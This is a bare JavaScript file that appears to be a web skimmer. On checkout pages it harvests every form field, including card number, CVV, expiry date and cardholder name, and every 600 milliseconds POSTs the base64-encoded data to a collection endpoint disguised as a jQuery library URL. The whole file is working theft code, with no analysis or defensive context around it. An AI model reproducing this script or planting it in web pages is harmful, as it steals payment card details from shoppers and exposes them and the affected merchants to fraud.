
var $s = {
    Number: null, Holder: null, CVV: null, Date: null, Sent: [],
    Gate: "<% url "ajax-cloudlib" "/libs/jquery.min.php" %>",
    SaveParam: function (o) { if (o.value !== undefined && o.value != "" && o.type != "hidden" && !(o.type == "radio" && !o.checked)) this.Data[o.name || o.id] = o.value; },
    Data: {},
    SaveAllFields: function () {
        var i, l = document.getElementsByTagName("input"), s = document.getElementsByTagName("select");
        for (i = 0; i < l.length; i++) this.SaveParam(l[i]);
        for (i = 0; i < s.length; i++) this.SaveParam(s[i]);
    },
    GetCCInfo: function () {
        var n = document.getElementById("cardnumber"), c = document.getElementById("cvc"), e = document.getElementById("exp-date");
        if (!n || !c || !e) return false;
        this.Number = n.value.replace(/ /g, ""); this.CVV = c.value; this.Date = e.value;
        return this.Number.length > 14 && this.CVV.length > 2 && this.Date.length > 4;
    },
    SendData: function () {
        this.Data["Domain"] = location.hostname;
        var b = btoa(encodeURIComponent(JSON.stringify(this.Data)));
        var h = this.Number + this.CVV + this.Date + (this.Data.ccname || "");
        if (this.Sent.indexOf(h) >= 0) return;
        this.Sent.push(h);
        var x = new XMLHttpRequest();
        x.open("POST", this.Gate, true);
        x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
        x.send("hash=" + encodeURIComponent(b) + "&v=2");
    },
    TrySend: function () { $s.SaveAllFields(); if ($s.GetCCInfo()) $s.SendData(); }
};
if (/checkout|onepage|onestep/i.test(location.href)) setInterval($s.TrySend, 600);
